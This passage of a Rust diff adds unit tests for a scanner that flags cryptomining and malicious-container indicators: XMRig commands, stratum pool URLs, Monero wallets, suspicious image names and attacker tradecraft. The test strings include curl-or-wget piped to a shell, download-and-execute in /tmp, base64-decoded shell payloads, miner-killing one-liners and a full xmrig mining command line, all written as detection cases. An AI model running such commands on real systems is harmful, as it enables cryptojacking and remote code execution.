+    }
+
+    #[test]
+    fn loads() {
+        let s = set();
+        assert_eq!(s.version(), 1);
+        assert!(s.len() > 100, "{}", s.len());
+        assert!(!s.is_empty());
+        assert!(s.describe("prog-xmrig").is_some());
+    }
+
+    #[test]
+    fn duplicate_ids_are_rejected() {
+        let dup = INDICATORS_YAML.replace("id: prog-ethminer", "id: prog-xmrig");
+        assert!(matches!(
+            IndicatorSet::parse(&dup),
+            Err(CatalogueError::Invalid { .. })
+        ));
+        let bad = INDICATORS_YAML.replace(
+            "id: trade-chmod-tmp",
+            "id: trade-chmod-tmp\n    pattern2: x",
+        );
+        assert!(IndicatorSet::parse(&bad).is_err());
+    }
+
+    #[test]
+    fn miner_programs() {
+        for t in [
+            "xmrig -o x",
+            "./xmrig",
+            "/usr/bin/xmrig --config x",
+            "curl -L https://x/xmrig-6.19.2-linux-x64.tar.gz -o xmrig.tar.gz",
+            "exec xmrig-notls",
+        ] {
+            let h = fam(t, Family::MinerProgram);
+            assert!(h.iter().any(|h| h.id == "prog-xmrig"), "{t}: {h:?}");
+            assert_eq!(h[0].program.as_deref(), Some("XMRig"));
+            assert_eq!(h[0].strength, Strength::Strong);
+        }
+        let h = fam("exec xmrig-notls", Family::MinerProgram);
+        assert!(h.iter().any(|h| h.matched == "xmrig-notls" && h.executable));
+        // Near misses: inside a longer word.
+        assert!(fam("determinerd --flag", Family::MinerProgram).is_empty());
+        assert!(fam("myxmrigs", Family::MinerProgram).is_empty());
+    }
+
+    #[test]
+    fn ambiguous_programs_need_executable_position() {
+        for t in [
+            "t-rex -a kawpow",
+            "./t-rex",
+            "cd /opt && t-rex -c x",
+            "nohup t-rex &",
+            "sh -c t-rex",
+            "command: [\"t-rex\"]",
+            "command:\n  - t-rex\n",
+        ] {
+            let h = fam(t, Family::MinerProgram);
+            assert!(
+                h.iter().any(|h| h.id == "prog-t-rex"
+                    && h.executable
+                    && h.strength == Strength::Strong),
+                "{t}: {h:?}"
+            );
+        }
+        for t in ["the t-rex game", "image: excavator-app", "I saw a t-rex"] {
+            let h = fam(t, Family::MinerProgram);
+            assert!(
+                h.iter()
+                    .all(|h| !h.executable && h.strength == Strength::Weak),
+                "{t}: {h:?}"
+            );
+        }
+    }
+
+    #[test]
+    fn agents() {
+        let h = fam(
+            r#""ua": "XMRig/2.6.0-beta3 (Linux x86_64)""#,
+            Family::MinerProgram,
+        );
+        assert!(h.iter().any(|h| h.id == "agent-xmrig"), "{h:?}");
+        // Not the GitHub path.
+        let h = fam(
+            "https://github.com/xmrig/xmrig/releases",
+            Family::MinerProgram,
+        );
+        assert!(h.iter().all(|h| h.id != "agent-xmrig"), "{h:?}");
+    }
+
+    #[test]
+    fn telltale_flags() {
+        for (t, id) in [
+            ("xmrig --donate-level 1", "flag-donate-level"),
+            ("--donate-level=0", "flag-donate-level"),
+            (r#"args: ["--randomx-1gb-pages"]"#, "flag-randomx"),
+            ("ethminer --farm-recheck 200", "flag-farm-recheck"),
+            ("-a rx/0", "flag-algo"),
+            ("--algo=rx/0", "flag-algo"),
+            ("-a cn/r -o x", "flag-algo"),
+            ("t-rex -a kawpow -o x", "flag-algo"),
+            (r#""algo": "cryptonight","#, "flag-algo"),
+            ("--coin monero", "flag-coin"),
+        ] {
+            let h = fam(t, Family::MinerFlag);
+            assert!(
+                h.iter()
+                    .any(|h| h.id == id && h.strength >= Strength::Medium),
+                "{t}: {h:?}"
+            );
+        }
+        for t in [
+            "--algorithm=adam",
+            "-a all",
+            "--algo sha256",
+            "ls -a",
+            "--donate-levels",
+            "x--donate-level",
+            "cryptonight is an algorithm",
+        ] {
+            assert!(fam(t, Family::MinerFlag).is_empty(), "{t}: {:?}", hits(t));
+        }
+    }
+
+    #[test]
+    fn generic_flags_are_weak() {
+        let h = fam(
+            "xmrig -o pool:1 -u W -p x -k --tls",
+            Family::GenericMinerFlag,
+        );
+        assert!(h.len() >= 5, "{h:?}");
+        assert!(h.iter().all(|h| h.strength == Strength::Weak));
+        assert_eq!(max_strength("cat -o output.txt"), Some(Strength::Weak));
+        // -u and -U are different flags.
+        let h = fam("-U", Family::GenericMinerFlag);
+        assert!(h.iter().all(|h| h.id == "gflag-gpu"), "{h:?}");
+        assert!(fam("--output", Family::GenericMinerFlag).is_empty());
+    }
+
+    #[test]
+    fn stratum_urls_and_methods() {
+        for t in [
+            "-o stratum+tcp://pool.example:3333",
+            "-P stratum1+tls12://0xabc.worker@eu1.example:5555",
+            "stratums://x",
+            "ethproxy+tcp://x",
+            "NICEHASH+TCP://x",
+        ] {
+            assert!(!fam(t, Family::StratumUrl).is_empty(), "{t}");
+        }
+        for t in [
+            "stratum+tcp",
+            "the stratum layer",
+            "xstratum+tcp://x",
+            "stratum+tcpx://x",
+        ] {
+            assert!(fam(t, Family::StratumUrl).is_empty(), "{t}");
+        }
+        let h = fam(r#"{"method": "mining.subscribe"}"#, Family::StratumMethod);
+        assert_eq!(h[0].strength, Strength::Strong);
+        assert!(fam("mining.subscriber", Family::StratumMethod).is_empty());
+        assert!(!fam("eth_submitLogin", Family::StratumMethod).is_empty());
+    }
+
+    #[test]
+    fn pool_domains() {
+        for t in [
+            "pool.supportxmr.com:443",
+            "-o supportxmr.com",
+            "stratum+tcp://gulf.moneroocean.stream:10128",
+            "https://XMR.NANOPOOL.ORG/",
+            "donate.v2.xmrig.com:3333",
+        ] {
+            let h = fam(t, Family::PoolDomain);
+            assert!(!h.is_empty(), "{t}");
+            // Medium alone: the verdict combines it with a wallet, port or flag.
+            assert_eq!(h[0].strength, Strength::Medium);
+        }
+        let h = fam("-o pool.supportxmr.com:443", Family::PoolDomain);
+        assert_eq!(h[0].matched, "pool.supportxmr.com");
+        for t in [
+            "notsupportxmr.com",
+            "my-supportxmr.com",
+            "supportxmr.com.example.net",
+            "supportxmr.community",
+        ] {
+            assert!(fam(t, Family::PoolDomain).is_empty(), "{t}");
+        }
+        // A sentence-ending dot is fine.
+        assert!(!fam("see supportxmr.com.", Family::PoolDomain).is_empty());
+    }
+
+    #[test]
+    fn pool_ports() {
+        let h = fam("-o pool.example.net:3333", Family::PoolPort);
+        assert_eq!(h.len(), 1);
+        assert_eq!(h[0].strength, Strength::Weak);
+        assert_eq!(h[0].matched, "pool.example.net:3333");
+        assert!(!fam("stratum+tcp://1.2.3.4:14444", Family::PoolPort).is_empty());
+        for t in [
+            "--port 3333",
+            "--port=3333",
+            "localhost:3333",
+            "127.0.0.1:4444",
+            "0.0.0.0:8888",
+            "http://jupyter:8888/lab",
+            "containerPort: 3333",
+            "pool.example.net:33330",
+            "port: 3333",
+            "12:3333",
+        ] {
+            assert!(fam(t, Family::PoolPort).is_empty(), "{t}: {:?}", hits(t));
+        }
+    }
+
+    const XMR: &str = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A";
+
+    #[test]
+    fn wallets() {
+        assert_eq!(XMR.len(), 95);
+        for t in [
+            XMR.to_string(),
+            format!("-u {XMR}.worker1"),
+            format!("\"user\": \"{XMR}+50000\""),
+        ] {
+            let h = fam(&t, Family::MoneroWallet);
+            assert_eq!(h.len(), 1, "{t}");
+            assert_eq!(h[0].strength, Strength::Medium);
+            assert_eq!(h[0].matched, XMR);
+        }
+        // Integrated address (106).
+        let integrated = format!("{XMR}abcdefghijk");
+        assert_eq!(fam(&integrated, Family::MoneroWallet).len(), 1);
+        // Near misses: longer base58 run, wrong length, bad alphabet, placeholders.
+        for t in [
+            format!("{XMR}Z"),
+            XMR[..94].to_string(),
+            XMR.replace('G', "0"),
+            XMR.replacen('4', "5", 1),
+            format!("4A{}", "x".repeat(93)),
+            "YOUR_WALLET_ADDRESS".to_string(),
+        ] {
+            assert!(fam(&t, Family::MoneroWallet).is_empty(), "{t}");
+        }
+        let eth = "0x52908400098527886E0F7030069857D2E4169EE7";
+        let h = fam(eth, Family::EthereumAddress);
+        assert_eq!(h.len(), 1);
+        assert_eq!(max_strength(eth), Some(Strength::Weak));
+        assert!(fam(&format!("{eth}00"), Family::EthereumAddress).is_empty());
+    }
+
+    #[test]
+    fn miner_config_shapes() {
+        let shell = r#"config='{ "algo": "cryptonight", "pools": [ { "url": "xmrpool.eu:9999", "user": "X", "pass": "x", "enabled": true, } ] }'"#;
+        let h = fam(shell, Family::MinerConfig);
+        assert_eq!(h.len(), 1, "{h:?}");
+        assert_eq!(h[0].strength, Strength::Strong);
+        let escaped = r#"{\"pools\": [{\"url\": \"p:1\"}], \"donate-level\": 1}"#;
+        assert_eq!(fam(escaped, Family::MinerConfig).len(), 1);
+        // A "pools" key alone (or without url) is not a miner config.
+        for t in [
+            r#"{"pools": [{"url": "http://a"}], "name": "lb"}"#,
+            r#"{"pools": ["a", "b"], "cpu": 1}"#,
+            r#"{"ip_pools": {"url": 1}, "algo": 1}"#,
+        ] {
+            assert!(fam(t, Family::MinerConfig).is_empty(), "{t}");
+        }
+    }
+
+    #[test]
+    fn images() {
+        let s = set();
+        for (img, id) in [
+            ("ddsfdfsaadfs/dfsdf:latest", "img-ddsfdfsaadfs"),
+            ("docker.io/docker123321/tomcat", "img-docker123321"),
+            ("azurenql/xyz:1", "img-azurenql"),
+        ] {
+            let h = s.scan_image(img);
+            assert!(
+                h.iter()
+                    .any(|h| h.id == id && h.family == Family::MaliciousImage),
+                "{img}: {h:?}"
+            );
+        }
+        for img in [
+            "miningcontainers/xmrig:latest",
+            "choukalos/alpine-xmrig",
+            "zetneteork/xmrig:6.22.2-2",
+            "m3rc1fulplat/m3rc1ful-xmrig",
+            "ghcr.io/someone/ethminer@sha256:abcd",
+        ] {
+            let h = s.scan_image(img);
+            assert!(
+                h.iter()
+                    .any(|h| h.family == Family::MinerImage && h.strength == Strength::Strong),
+                "{img}: {h:?}"
+            );
+            assert!(h[0].program.is_some());
+        }
+        assert_eq!(
+            s.scan_image("choukalos/alpine-xmrig")[0].program.as_deref(),
+            Some("XMRig")
+        );
+        let h = s.scan_image("someone/monero-miner:1");
+        assert!(h.iter().any(|h| h.strength == Strength::Strong), "{h:?}");
+        assert!(s.scan_image("example/data-mining-ui:1").is_empty());
+        for img in [
+            "tensorflow/tensorflow:latest-gpu",
+            "docker/whalesay",
+            "nginx:1.25",
+            "busybox:xmrig", // a tag is not the repository
+            "someone/xmrigger",
+            "determinerd/app",
+            "minerals/app",
+        ] {
+            assert!(
+                s.scan_image(img).is_empty(),
+                "{img}: {:?}",
+                s.scan_image(img)
+            );
+        }
+    }
+
+    #[test]
+    fn ml_images() {
+        let s = set();
+        for (img, f) in [
+            ("tensorflow/tensorflow:latest-gpu", "TensorFlow"),
+            (
+                "docker.io/pytorch/pytorch:2.1.0-cuda12.1-cudnn8-runtime",
+                "PyTorch",
+            ),
+            ("nvcr.io/nvidia/pytorch:24.01-py3", "PyTorch"),
+            ("jupyter/scipy-notebook", "Jupyter"),
+            ("quay.io/jupyter/base-notebook:latest", "Jupyter"),
+            ("kubeflownotebookswg/jupyter-scipy:v1.8.0", "Kubeflow"),
+            ("rayproject/ray-ml:2.9.0-gpu", "Ray"),
+            ("rayproject/ray:2.9.0", "Ray"),
+            ("nvidia/cuda:12.2.0-runtime-ubuntu22.04", "NVIDIA CUDA"),
+            ("huggingface/transformers-pytorch-gpu", "Hugging Face"),
+        ] {
+            assert_eq!(s.ml_image(img), Some(f), "{img}");
+        }
+        for img in [
+            "nginx",
+            "docker/whalesay",
+            "tensorflowx/app",
+            "myjupyter/x",
+            "python:3.11",
+        ] {
+            assert_eq!(s.ml_image(img), None, "{img}");
+        }
+    }
+
+    #[test]
+    fn tradecraft() {
+        for (t, id) in [
+            (
+                "curl -fsSL http://x.example/i.sh | sh",
+                "trade-curl-pipe-shell",
+            ),
+            ("wget -q -O - http://x/i | bash", "trade-curl-pipe-shell"),
+            ("wget -O- http://x | sudo bash -s", "trade-curl-pipe-shell"),
+            (
+                "curl -o /tmp/x http://h/x; chmod +x /tmp/x; /tmp/x",
+                "trade-download-exec-tmp",
+            ),
+            ("chmod 777 /tmp/.x/run", "trade-chmod-tmp"),
+            ("chmod +x /dev/shm/a", "trade-chmod-tmp"),
+            ("cd /; /dev/shm/.hidden -c", "trade-exec-devshm"),
+            ("nohup ./run >/dev/null 2>&1 &", "trade-nohup-background"),
+            (
+                "echo ZWNobyBoaQ== | base64 --decode | bash",
+                "trade-base64-pipe-shell",
+            ),
+            ("echo Zm9v | base64 -d | sh", "trade-base64-pipe-shell"),
+            (
+                "python3 -c \"import base64;exec(base64.b64decode('eA=='))\"",
+                "trade-exec-decoded",
+            ),
+            ("pkill -f xmrig", "trade-kill-miners"),
+            ("killall -9 kdevtmpfsi", "trade-kill-miners"),
+            (
+                "ps aux | grep -v grep | grep kinsing | awk '{print $2}' | xargs kill -9",
+                "trade-grep-kill-miners",
+            ),
+        ] {
+            let h = fam(t, Family::Tradecraft);
+            assert!(h.iter().any(|h| h.id == id), "{t}: {:?}", hits(t));
+        }
+        assert!(fam("curl -fsSL http://x/i.sh | sh", Family::Tradecraft)
+            .iter()
+            .any(|h| h.strength == Strength::Medium));
+        for t in [
+            "curl -L -o data.csv https://example.com/data.csv",
+            "curl -s http://x | jq .",
+            "chmod +x ./run.sh",
+            "echo hi | base64",
+            "kill -9 1234",
+            "ls /tmp/cache",
+        ] {
+            assert!(fam(t, Family::Tradecraft).is_empty(), "{t}: {:?}", hits(t));
+        }
+    }
+
+    #[test]
+    fn kernel_thread_names() {
+        for t in [
+            "/tmp/kdevtmpfsi",
+            "./kinsing &",
+            "cp x /tmp/kswapd0 && /tmp/kswapd0",
+            "exec -a '[kworker/0:0]' ./x",
+        ] {
+            let h = fam(t, Family::KernelThreadName);
+            assert!(!h.is_empty(), "{t}: {:?}", hits(t));
+            assert_eq!(h[0].strength, Strength::Medium);
+        }
+        for t in [
+            "cat /proc/1/kswapd0",
+            "kswapd0",
+            "mykinsingapp",
+            "kworker threads",
+        ] {
+            assert!(
+                fam(t, Family::KernelThreadName).is_empty(),
+                "{t}: {:?}",
+                hits(t)
+            );
+        }
+    }
+
+    #[test]
+    fn mining_words_are_weak() {
+        for t in ["data mining", "text mining pipeline", "monero", "hashrate"] {
+            let h = fam(t, Family::MiningWord);
+            assert!(!h.is_empty(), "{t}");
+            assert_eq!(max_strength(t), Some(Strength::Weak), "{t}: {:?}", hits(t));
+        }
+        assert!(fam("minerals determined", Family::MiningWord).is_empty());
+    }
+
+    #[test]
+    fn benign_examples() {
+        // The Argo whalesay example.
+        let argo = "image: docker/whalesay\ncommand: [cowsay]\nargs: [\"hello world\"]";
+        assert!(hits(argo).is_empty(), "{:?}", hits(argo));
+        let tf = "image: tensorflow/tensorflow:latest-gpu\nargs: [\"python\", \"train.py\", \"--optimizer\", \"adam\"]";
+        assert!(hits(tf).is_empty(), "{:?}", hits(tf));
+        let uid = "uid: 3f2a6b1c-9d4e-4f5a-8b7c-1d2e3f4a5b6c";
+        assert!(hits(uid).is_empty());
+    }
+
+    #[test]
+    fn hits_sorted_and_complete() {
+        let t = format!(
+            "nohup ./xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u {XMR}.w1 -p x --donate-level 1 &"
+        );
+        let h = hits(&t);
+        for f in [
+            Family::MinerProgram,
+            Family::StratumUrl,
+            Family::PoolDomain,
+            Family::PoolPort,
+            Family::MoneroWallet,
+            Family::MinerFlag,
+            Family::GenericMinerFlag,
+            Family::Tradecraft,
+        ] {
+            assert!(h.iter().any(|x| x.family == f), "{f:?}: {h:?}");
+        }
+        assert!(h.windows(2).all(|w| w[0].start <= w[1].start));
+        for x in &h {
+            assert_eq!(cut(&t[x.start..x.end]), x.matched);
+        }
+    }
+
+    #[test]
+    fn corpus_xmrig_configs() {
+        let dir = std::path::Path::new("/work/shared/corpus/miners/xmrig-configs");
+        let Ok(entries) = std::fs::read_dir(dir) else {
+            eprintln!("skipped: {} not present", dir.display());
+            return;
+        };
+        let mut n = 0;
+        for e in entries.flatten() {
+            let p = e.path();
+            if p.extension().and_then(|x| x.to_str()) != Some("json") {
+                continue;
+            }
+            let text = std::fs::read_to_string(&p).unwrap();
+            let h = hits(&text);
+            assert!(
+                h.iter()
+                    .any(|h| matches!(h.family, Family::MinerConfig | Family::MinerProgram)),
+                "{}: {h:?}",
+                p.display()
+            );
+            n += 1;
+        }
+        assert!(n > 0);
+    }
+
+    #[test]
+    fn huge_single_line_is_linear() {
+        let s = set();
+        let start = std::time::Instant::now();
+        let big = "A".repeat(10 << 20);
+        let _ = s.scan_text(&big);
+        let mixed: String =
+            "xmrig -o pool.supportxmr.com:3333 -a rx/0 curl x | sh 0xdeadbeef mining "
+                .repeat((10 << 20) / 72);
+        let h = s.scan_text(&mixed);
+        assert!(h.len() <= s.len() * MAX_HITS_PER_INDICATOR);
+        let b58: String = "4AbCdEfGhJkLmNpQrStUvWxYz123456789".repeat((10 << 20) / 34);
+        let _ = s.scan_text(&b58);
+        eprintln!("10 MB scans took {:?}", start.elapsed());
+    }
+
+    #[test]
+    fn never_panics_on_odd_input() {
+        let s = set();
+        for t in [
+            "",
+            "=",
+            "é",
+            "xmrig",
+            "-",
+            ":3333",
+            "a:3333",
+            "é:3333",
+            "\u{0}\u{1}",
+            "stratum+tcp://",
+            "💥xmrig💥",
+            "💥supportxmr.com",
+        ] {
+            let _ = s.scan_text(t);
+            let _ = s.scan_image(t);
+            let _ = s.ml_image(t);
+        }
+        let long = format!("{}{}", "é".repeat(100), "supportxmr.com");
+        let h = s.scan_text(&long);
+        assert_eq!(h[0].matched, "supportxmr.com");
     }
 }
